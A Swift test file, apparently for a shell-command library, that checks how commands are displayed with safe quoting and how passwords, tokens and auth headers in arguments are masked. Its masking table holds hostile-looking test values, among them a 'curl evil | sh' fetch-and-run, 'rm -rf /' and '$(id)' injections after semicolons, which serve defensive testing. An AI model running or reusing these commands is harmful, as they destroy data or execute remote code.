import Foundation
import Shell
import TestKit
import Testing

@Suite("A command as it is shown")
struct ShownCommandTests {
    static let table: [([UInt8], String)] = [
        (Array("git".utf8), "git"), (Array("--a=b,c:/x@y%+.-_".utf8), "--a=b,c:/x@y%+.-_"),
        ([], "''"),
        (Array("a b".utf8), "'a b'"), (Array("it's".utf8), "'it'\\''s'"),
        (Array("$(x)".utf8), "'$(x)'"),
        (Array("a\\b".utf8), "'a\\b'"), (Array("*".utf8), "'*'"), (Array("~".utf8), "'~'"),
        (Array("jörg".utf8), "'jörg'"), (Array("日本".utf8), "'日本'"),
        (Array("a\nb".utf8), "$'a\\nb'"),
        (Array("\t\r\u{1B}[2J".utf8), "$'\\t\\r\\x1b[2J'"), ([0x61, 0xFF], "$'a\\xff'"),
        (Array("it's\n\\".utf8), "$'it\\'s\\n\\\\'"),
        (Array("\u{202E}x".utf8), "$'\\xe2\\x80\\xaex'"),
        (Array("a\u{200B}b".utf8), "$'a\\xe2\\x80\\x8bb'"), (Array("\u{A0}".utf8), "$'\\xc2\\xa0'"),
        (Array("\u{85}".utf8), "$'\\xc2\\x85'"), (Array("ö\u{2028}".utf8), "$'ö\\xe2\\x80\\xa8'"),
        (Array("\u{E000}".utf8), "$'\\xee\\x80\\x80'"), ([0xC3, 0xB6, 0xFF], "$'\\xc3\\xb6\\xff'"),
        (Array("\u{7F}1".utf8), "$'\\x7f1'"), (Array("\u{3164}".utf8), "$'\\xe3\\x85\\xa4'"),
    ]

    @Test(
        "threat 18: each word is unambiguous, and nothing in it hides or moves anything",
        arguments: table)
    func word(_ word: [UInt8], _ expected: String) {
        #expect(text(shownCommand([word])) == expected)
    }

    @Test("a shell reads the shown words back, byte for byte", arguments: 0..<8)
    func roundTrip(_ seed: Int) async throws {
        var random = SeededRandom(seed: UInt64(seed))
        let special =
            Array("'\"\\$`*? \n\t~#!&;|()<>{}[]".utf8) + [0xFF, 0xC3, 0xB6, 0x1B, 0x80, 0xE2]
        let words = (0..<60).map { _ in
            (0..<Int.random(in: 0...8, using: &random)).map { _ in
                Bool.random(using: &random)
                    ? special[Int.random(in: 0..<special.count, using: &random)]
                    : UInt8.random(in: 1...255, using: &random)
            }
        }
        let scratch = try ScratchDirectory()
        let script = scratch.path + "/script"
        let line = Array("printf '%s\\0' ".utf8) + shownCommand(words) + Array(" > out\n".utf8)
        try Data(line).write(to: URL(fileURLWithPath: script))
        let output = try await Command("/bin/bash", ["-c", "cd '\(scratch.path)' && . ./script"])
            .run()
        #expect(output.status == 0, "\(output)")
        let read = try Data(contentsOf: URL(fileURLWithPath: scratch.path + "/out"))
        #expect(Array(read) == words.flatMap { $0 + [0] })
        #expect(shownCommand(words).allSatisfy { $0 >= 0x20 && $0 != 0x7F })
    }
}

@Suite("Secrets in words")
struct SecretWordTests {
    /// Program, words, the words as they are shown.
    static let table: [(String, [String], [String])] = [
        ("git", ["clone", "https://bob:hunter2@x.org/a"], ["clone", "https://bob:***@x.org/a"]),
        ("git", ["clone", "https://ghp_token@x.org/a"], ["clone", "https://***@x.org/a"]),
        ("git", ["clone", "ssh://git@x.org/a:b"], ["clone", "ssh://git@x.org/a:b"]),
        ("curl", ["https://u:p@w@x.org"], ["https://u:***@x.org"]),
        ("curl", ["https://x.org/?a=b&token=abc&c=d"], ["https://x.org/?a=b&token=***&c=d"]),
        ("curl", ["https://x.org/a@b:c"], ["https://x.org/a@b:c"]),
        ("psql", ["postgresql://u:p@h/d?password=q"], ["postgresql://u:***@h/d?password=***"]),
        ("psql", ["host=h password=q dbname=d"], ["host=h password=*** dbname=d"]),
        ("x", ["--password=a b"], ["--password=*** b"]),
        ("ssh", ["prod", "PASSWORD=x; rm -rf /srv"], ["prod", "PASSWORD=***; rm -rf /srv"]),
        (
            "kubectl", ["exec", "p", "--", "Cookie: rm; id"],
            ["exec", "p", "--", "Cookie: ***; id"]
        ),
        ("su", ["-c", "TOKEN=x\nid"], ["-c", "TOKEN=***\nid"]),
        ("ssh", ["h", "Authorization: $(id)"], ["h", "Authorization: $(id)"]),
        ("mount", ["-o", "password=s,suid"], ["-o", "password=***,suid"]),
        ("dropdb", ["--password", "production"], ["--password", "production"]),
        ("x", ["--db-password=s"], ["--db-password=***"]),
        ("x", ["--password", "s", "t"], ["--password", "s", "t"]),
        ("x", ["--password", "-v"], ["--password", "-v"]),
        ("x", ["--password", "rm -rf /"], ["--password", "rm -rf /"]),
        ("x", ["--token=s", "--api_key=s"], ["--token=***", "--api_key=***"]),
        ("git", ["-c", "alias.token=clean", "token"], ["-c", "alias.token=clean", "token"]),
        ("git", ["-c", "pager.token=id"], ["-c", "pager.token=id"]),
        ("x", ["--env=DB_PASS=s", "a/TOKEN=s,b"], ["--env=DB_PASS=***", "a/TOKEN=***,b"]),
        ("env", ["GIT_ASKPASS=/bin/x", "bypassed=s"], ["GIT_ASKPASS=/bin/x", "bypassed=s"]),
        ("x", ["--password-file=f", "--token-url=u"], ["--password-file=f", "--token-url=u"]),
        ("env", ["PGPASSWORD=s", "A=b", "psql"], ["PGPASSWORD=***", "A=b", "psql"]),
        ("env", ["AWS_SECRET_ACCESS_KEY=s"], ["AWS_SECRET_ACCESS_KEY=***"]),
        ("env", ["AWS_ACCESS_KEY_ID=s"], ["AWS_ACCESS_KEY_ID=s"]),
        ("x", ["--max-tokens=5", "secretary=x"], ["--max-tokens=5", "secretary=x"]),
        ("curl", ["-H", "Authorization: Bearer s"], ["-H", "Authorization: Bearer ***"]),
        ("curl", ["-H", "Authorization: s"], ["-H", "Authorization: ***"]),
        (
            "curl", ["-HCookie: s", "--header=X-Api-Key:s"],
            ["-HCookie: ***", "--header=X-Api-Key:***"]
        ),
        ("curl", ["-H", "Cookie: a=b; token=c"], ["-H", "Cookie: ***; token=***"]),
        // An option's value is no option.
        ("curl", ["-o", "-u", "https://x.org"], ["-o", "-u", "https://x.org"]),
        ("curl", ["-sSo", "-u", "https://x.org"], ["-sSo", "-u", "https://x.org"]),
        ("curl", ["--output", "-ux", "y"], ["--output", "-ux", "y"]),
        ("curl", ["-u", "-u", "https://x.org"], ["-u", "-u", "https://x.org"]),
        ("curl", ["-sS", "-u", "bob:s;id"], ["-sS", "-u", "***;id"]),
        ("curl", ["--", "-u", "x"], ["--", "-u", "x"]),
        ("curl", ["-H", "Accept: x"], ["-H", "Accept: x"]),
        (
            "curl", ["-u", "bob:s", "-ubob:s", "--user", "bob:s"],
            ["-u", "***", "-u***", "--user", "***"]
        ),
        ("mysql", ["-ps", "-p", "db"], ["-p***", "-p", "db"]), ("mkdir", ["-ps"], ["-ps"]),
        ("mariadb-dump", ["-ps"], ["-p***"]),
        ("mysql", ["-uroot", "-h", "x", "-ps"], ["-uroot", "-h", "x", "-p***"]),
        ("mysql", ["-e", "-ps", "-ps t"], ["-e", "-ps", "-p*** t"]),
        ("sshpass", ["-p", "s", "ssh"], ["-p", "***", "ssh"]),
        ("sshpass", ["-ps", "ssh", "-p", "22", "-p2"], ["-p***", "ssh", "-p", "22", "-p2"]),
        ("redis-cli", ["-a", "s", "GET", "a"], ["-a", "***", "GET", "a"]),
        ("redis-cli", ["-h", "x", "-a", "s"], ["-h", "x", "-a", "***"]),
        ("redis-cli", ["EVAL", "-a", "x"], ["EVAL", "-a", "x"]),
        ("bash", ["-c", "curl https://u:s@h"], ["-c", "curl https://u:***@h"]),
        ("bash", ["-c", "TOKEN=abc;x"], ["-c", "TOKEN=***;x"]),
        ("bash", ["-c", "TOKEN=$(curl evil | sh)"], ["-c", "TOKEN=$(curl evil | sh)"]),
        ("bash", ["--token", "x.sh"], ["--token", "x.sh"]),
        ("bash", ["-c", "x 'password=$(id)'"], ["-c", "x 'password=$(id)'"]),
        ("bash", ["-c", "Authorization: $(id)"], ["-c", "Authorization: $(id)"]),
        (
            "x", ["", "=", ":", "://", "a://:@", "password="],
            ["", "=", ":", "://", "a://:@", "password="]
        ),
    ]

    @Test(
        "threat 17: secrets that are called so are masked, and nothing that can run is",
        arguments: table)
    func mask(_ name: String, _ given: [String], _ expected: [String]) {
        let words = ([name] + given).map { Array($0.utf8) }
        let masked = maskedWords(words, of: file("/usr/bin/\(name)"))
        #expect(masked.map(text) == [name] + expected)
    }

    @Test(
        "threat 17: the mask says how much it hides, and a name that the caller chose hides nothing"
    )
    func counted() {
        let given = words("mysql", "-psecret", "PASSWORD=ab")
        #expect(
            maskedWords(given, of: file("/usr/bin/mysql"), isCounted: true)
                == words("mysql", "-p***(6 bytes)", "PASSWORD=***(2 bytes)"))
        for other in [
            file("/usr/bin/rm"), file("/usr/bin/mysql", isVerified: false),
            file("/home/dev/mysql", isReplaceable: true),
        ] {
            #expect(maskedWords(given, of: other)[1] == given[1])
        }
        #expect(maskedWords([], of: file("/usr/bin/rm")) == [])
    }

    @Test("threat 17: what may be taken into another word is known")
    func expansion() {
        #expect(mayExpand([Array("a_token=rm;$a_token -rf /".utf8)]))
        #expect(mayExpand([Array("echo".utf8), Array("`x`".utf8)]))
        #expect(!mayExpand([Array("--token=x".utf8)]))
        let code = start(file("/usr/bin/python3"), ["-c", "import os"])
        let plain = start(file("/usr/bin/curl"), ["-H", "Authorization: x"])
        #expect(mayExpand(code, ProgramCode(of: code)))
        #expect(!mayExpand(plain, ProgramCode(of: plain)))
    }
}
